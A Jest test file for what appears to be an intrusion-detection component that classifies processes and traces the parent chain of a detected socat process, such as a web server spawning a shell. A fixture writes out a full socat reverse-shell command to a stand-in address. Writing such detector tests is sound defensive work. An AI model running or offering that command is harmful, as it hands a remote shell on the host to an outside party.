import { describe, expect, it } from '@jest/globals';
import { buildLineage, MAX_LINEAGE_DEPTH, processKind } from '../../lib/decide/lineage.js';
import type { ProcessKind } from '../../lib/decide/types.js';
import type { ProcessInfo } from '../../lib/finding/types.js';

function proc(pid: number | null, parentPid: number | null, binary: string | null, args: string[] = [], name: string | null = null): ProcessInfo {
  return { name, binary, args, argsTruncated: false, pid, parentPid };
}

const SOCAT_ARGS = ['socat', 'TCP:203.0.113.77:4444', 'EXEC:/bin/sh,pty,stderr,setsid'];

function socat(pid: number | null, parentPid: number | null): ProcessInfo {
  return proc(pid, parentPid, '/usr/bin/socat', SOCAT_ARGS, 'socat');
}

describe('processKind', () => {
  // [label, process, kind]
  const cases: ReadonlyArray<readonly [string, ProcessInfo, ProcessKind]> = [
    ['socat by binary', proc(1, 0, '/usr/bin/socat'), 'socat'],
    ['socat by argv[0] of a renamed binary', proc(1, 0, '/tmp/.x/kworker', ['socat', 'TCP:h:1', 'EXEC:sh']), 'socat'],
    ['versioned socat', proc(1, 0, '/opt/socat1.7.4'), 'socat'],
    ['sh', proc(1, 0, '/bin/sh', ['sh', '-c', 'socat ...']), 'shell'],
    ['bash', proc(1, 0, '/usr/bin/bash'), 'shell'],
    ['login shell argv[0]', proc(1, 0, null, ['-bash']), 'shell'],
    ['dash', proc(1, 0, '/bin/dash'), 'shell'],
    ['zsh by name only', proc(1, 0, null, [], 'zsh'), 'shell'],
    ['ash', proc(1, 0, '/bin/ash'), 'shell'],
    ['ksh', proc(1, 0, '/bin/ksh'), 'shell'],
    ['busybox symlinked as sh', proc(1, 0, '/bin/busybox', ['sh', '-c', 'x']), 'shell'],
    ['busybox sh applet', proc(1, 0, '/bin/busybox', ['busybox', 'sh', '-c', 'x']), 'shell'],
    ['busybox nc applet', proc(1, 0, '/bin/busybox', ['busybox', 'nc', 'h', '1']), 'other'],
    ['busybox httpd applet', proc(1, 0, '/bin/busybox', ['busybox', 'httpd', '-f']), 'web_server'],
    ['nginx worker title', proc(1, 0, null, ['nginx: worker process']), 'web_server'],
    ['nginx binary', proc(1, 0, '/usr/sbin/nginx'), 'web_server'],
    ['httpd', proc(1, 0, '/usr/local/apache2/bin/httpd', ['httpd', '-DFOREGROUND']), 'web_server'],
    ['apache2', proc(1, 0, '/usr/sbin/apache2'), 'web_server'],
    ['caddy', proc(1, 0, '/usr/bin/caddy', ['caddy', 'run']), 'web_server'],
    ['php-fpm pool title', proc(1, 0, '/usr/local/sbin/php-fpm', ['php-fpm: pool www']), 'web_server'],
    ['versioned php-fpm', proc(1, 0, '/usr/sbin/php-fpm8.2'), 'web_server'],
    ['gunicorn script under python', proc(1, 0, '/usr/local/bin/python3.11', ['/usr/local/bin/python3.11', '/usr/local/bin/gunicorn', 'app:app']), 'web_server'],
    ['python -m gunicorn module path', proc(1, 0, '/usr/bin/python3', ['python3', '-m', 'gunicorn.app.wsgiapp', 'app:app']), 'web_server'],
    ['uwsgi', proc(1, 0, '/usr/local/bin/uwsgi', ['uwsgi', '--ini', 'app.ini']), 'web_server'],
    ['puma under ruby', proc(1, 0, '/usr/local/bin/ruby', ['puma 6.4.0 (tcp://0.0.0.0:3000) [app]']), 'web_server'],
    ['java running tomcat', proc(1, 0, '/opt/java/openjdk/bin/java', ['java', '-Dcatalina.base=/usr/local/tomcat', 'org.apache.catalina.startup.Bootstrap', 'start']), 'web_server'],
    ['java running jetty', proc(1, 0, '/usr/bin/java', ['java', '-jar', '/usr/local/jetty/start.jar']), 'web_server'],
    ['plain java', proc(1, 0, '/usr/bin/java', ['java', '-jar', '/app/app.jar']), 'interpreter'],
    ['python script', proc(1, 0, '/usr/bin/python3', ['python3', '/app/init.py']), 'interpreter'],
    ['versioned python', proc(1, 0, '/usr/local/bin/python3.12'), 'interpreter'],
    ['perl', proc(1, 0, '/usr/bin/perl', ['perl', '-e', '...']), 'interpreter'],
    ['ruby', proc(1, 0, '/usr/bin/ruby3.2'), 'interpreter'],
    ['php cli', proc(1, 0, '/usr/bin/php8.1', ['php', 'artisan', 'queue:work']), 'interpreter'],
    ['node', proc(1, 0, '/usr/local/bin/node', ['node', 'server.js']), 'interpreter'],
    ['lua', proc(1, 0, '/usr/bin/lua5.4'), 'interpreter'],
    ['containerd-shim', proc(1, 0, '/usr/bin/containerd-shim-runc-v2', ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'k8s.io']), 'container_runtime'],
    ['runc', proc(1, 0, '/usr/bin/runc'), 'container_runtime'],
    ['conmon', proc(1, 0, '/usr/bin/conmon'), 'container_runtime'],
    ['gVisor runsc', proc(1, 0, '/usr/bin/runsc-sandbox'), 'container_runtime'],
    ['tini', proc(1, 0, '/sbin/tini', ['/sbin/tini', '--', 'app']), 'init'],
    ['dumb-init', proc(1, 0, '/usr/bin/dumb-init'), 'init'],
    ['/sbin/init', proc(1, 0, '/sbin/init'), 'init'],
    ['pause', proc(1, 0, '/pause'), 'init'],
    ['supervisord under python', proc(1, 0, '/usr/bin/python3', ['/usr/bin/python3', '/usr/bin/supervisord', '-n']), 'init'],
    ['curl', proc(1, 0, '/usr/bin/curl'), 'other'],
    ['nothing known', proc(1, 0, null, [], null), 'other'],
    ['hostile args at runtime', { ...proc(1, 0, null), args: [42, null] as unknown as string[] }, 'other'],
  ];
  it.each(cases)('%s → %s', (_label, p, kind) => {
    expect(processKind(p)).toBe(kind);
  });
});

describe('buildLineage', () => {
  it('shell parent', () => {
    const sh = proc(10, 1, '/bin/sh', ['sh', '-c', 'socat ...']);
    const s = socat(11, 10);
    const lineage = buildLineage([sh, s], s);
    expect(lineage.chain.map((e) => e.pid)).toEqual([10, 11]);
    expect(lineage.chain.map((e) => e.kind)).toEqual(['shell', 'socat']);
    expect(lineage.startedBy).toBe('shell');
    expect(lineage.summary).toBe('sh → socat');
  });

  it('web server → shell → socat, listed in any order', () => {
    const java = proc(7, 1, '/opt/java/openjdk/bin/java', ['java', 'org.apache.catalina.startup.Bootstrap', 'start']);
    const sh = proc(20, 7, '/bin/sh', ['/bin/sh', '-c', 'socat ...']);
    const s = socat(21, 20);
    const lineage = buildLineage([s, java, sh], s);
    expect(lineage.chain.map((e) => e.kind)).toEqual(['web_server', 'shell', 'socat']);
    expect(lineage.chain[0]).toEqual({
      pid: 7,
      parentPid: 1,
      name: null,
      binary: '/opt/java/openjdk/bin/java',
      args: ['java', 'org.apache.catalina.startup.Bootstrap', 'start'],
      kind: 'web_server',
    });
    expect(lineage.startedBy).toBe('shell');
    expect(lineage.summary).toBe('java (web_server) → sh → socat');
  });

  it('interpreter started socat directly', () => {
    const py = proc(30, 1, '/usr/bin/python3', ['python3', '-c', 'import os; os.system("socat ...")']);
    const s = socat(31, 30);
    const lineage = buildLineage([py, s], s);
    expect(lineage.startedBy).toBe('interpreter');
    expect(lineage.summary).toBe('python3 → socat');
  });

  it('container init → runtime chain is followed to the top', () => {
    const shim = proc(100, 1, '/usr/bin/containerd-shim-runc-v2');
    const tini = proc(101, 100, '/sbin/tini', ['/sbin/tini', '--', 'node', 'app.js']);
    const node = proc(102, 101, '/usr/local/bin/node', ['node', 'app.js']);
    const sh = proc(103, 102, '/bin/sh');
    const s = socat(104, 103);
    const lineage = buildLineage([shim, tini, node, sh, s], s);
    expect(lineage.chain.map((e) => e.kind)).toEqual(['container_runtime', 'init', 'interpreter', 'shell', 'socat']);
    expect(lineage.summary).toBe('containerd-shim-runc-v2 → tini → node → sh → socat');
  });

  it('orphan socat: parent not in the finding', () => {
    const other = proc(50, 1, '/bin/bash');
    const s = socat(61, 60);
    const lineage = buildLineage([other, s], s);
    expect(lineage.chain).toHaveLength(1);
    expect(lineage.chain[0]?.kind).toBe('socat');
    expect(lineage.startedBy).toBeNull();
    expect(lineage.summary).toBe('socat');
  });

  it('socat alone when the finding lists no other process', () => {
    const s = socat(5, 4);
    expect(buildLineage([s], s)).toEqual({
      chain: [{ pid: 5, parentPid: 4, name: 'socat', binary: '/usr/bin/socat', args: SOCAT_ARGS, kind: 'socat' }],
      startedBy: null,
      summary: 'socat',
    });
  });

  it('no socat process: empty lineage', () => {
    expect(buildLineage([proc(1, 0, '/bin/sh')], null)).toEqual({ chain: [], startedBy: null, summary: '' });
  });

  it('stops at a two-process cycle', () => {
    const a = proc(2, 3, '/bin/sh');
    const b = proc(3, 2, '/bin/bash');
    const s = socat(4, 2);
    const lineage = buildLineage([a, b, s], s);
    expect(lineage.chain.map((e) => e.pid)).toEqual([3, 2, 4]);
    expect(lineage.startedBy).toBe('shell');
  });

  it('stops at a cycle back to socat itself', () => {
    const sh = proc(9, 8, '/bin/sh');
    const s = socat(8, 9);
    const lineage = buildLineage([sh, s], s);
    expect(lineage.chain.map((e) => e.pid)).toEqual([9, 8]);
  });

  it('stops at a process that is its own parent', () => {
    const sh = proc(9, 9, '/bin/sh');
    const s = socat(10, 9);
    expect(buildLineage([sh, s], s).chain.map((e) => e.pid)).toEqual([9, 10]);
  });

  it('a copy of socat with the same pid is not its own parent', () => {
    const s = socat(11, 11);
    const copy = socat(11, 11);
    const lineage = buildLineage([copy, s], s);
    expect(lineage.chain).toHaveLength(1);
    expect(lineage.startedBy).toBeNull();
  });

  it('duplicate pids: the first listed candidate is the parent, and it is used once', () => {
    const first = proc(20, 1, '/bin/sh');
    const second = proc(20, 1, '/usr/bin/python3');
    const s = socat(21, 20);
    const lineage = buildLineage([first, second, s], s);
    expect(lineage.chain.map((e) => e.binary)).toEqual(['/bin/sh', '/usr/bin/socat']);
  });

  it.each([
    ['socat has no parentPid', socat(11, null)],
    ['socat has no pid and parentPid 0', socat(null, 0)],
    ['socat parentPid is negative', socat(11, -1)],
    ['socat parentPid is not an integer', socat(11, 1.5)],
  ])('missing pids: %s', (_label, s) => {
    const withNullPid = proc(null, 1, '/bin/sh');
    const lineage = buildLineage([withNullPid, s], s);
    expect(lineage.chain).toHaveLength(1);
    expect(lineage.startedBy).toBeNull();
  });

  it('a parent with no pid is never matched, even against a null parentPid', () => {
    const sh = proc(null, null, '/bin/sh');
    const s = socat(null, null);
    expect(buildLineage([sh, s], s).chain.map((e) => e.binary)).toEqual(['/usr/bin/socat']);
  });

  it('socat without a pid still finds its parent', () => {
    const sh = proc(40, 1, '/bin/sh');
    const s = socat(null, 40);
    const lineage = buildLineage([sh, s], s);
    expect(lineage.startedBy).toBe('shell');
    expect(lineage.chain[1]?.pid).toBeNull();
  });

  it('caps the depth and the summary on a deep chain', () => {
    const deep: ProcessInfo[] = [];
    for (let pid = 1000; pid < 1100; pid++) deep.push(proc(pid, pid - 1, '/bin/sh'));
    const s = socat(2000, 1099);
    const lineage = buildLineage([...deep, s], s);
    expect(lineage.chain).toHaveLength(MAX_LINEAGE_DEPTH);
    // The nearest ancestors are kept.
    expect(lineage.chain.at(-2)?.pid).toBe(1099);
    expect(lineage.chain[0]?.pid).toBe(1099 - (MAX_LINEAGE_DEPTH - 2));
    expect(lineage.summary).toBe('… → sh → sh → sh → sh → sh → socat');
  });

  it('summary uses basenames, shows kinds the name hides, and caps long names', () => {
    const long = proc(1, 0, '/tmp/' + 'x'.repeat(500));
    const renamed = proc(2, 1, '/tmp/.cache/kworker', ['sh', '-c', 'x']);
    const s = proc(3, 2, '/tmp/.cache/dbus', ['socat', 'TCP:h:1', 'EXEC:sh']);
    const lineage = buildLineage([long, renamed, s], s);
    const [top, ...rest] = lineage.summary.split(' → ');
    expect(top).toBe('x'.repeat(39) + '…');
    expect(rest).toEqual(['kworker (shell)', 'dbus (socat)']);
  });

  it('names a process by argv[0], then name, then pid when there is no binary', () => {
    const byArgv = proc(1, 0, null, ['/usr/sbin/nginx: master process']);
    const byName = proc(2, 1, null, [], 'bash');
    const byPid = proc(3, 2, null);
    const s = socat(4, 3);
    expect(buildLineage([byArgv, byName, byPid, s], s).summary).toBe('nginx → bash → pid 3 → socat');
  });
});
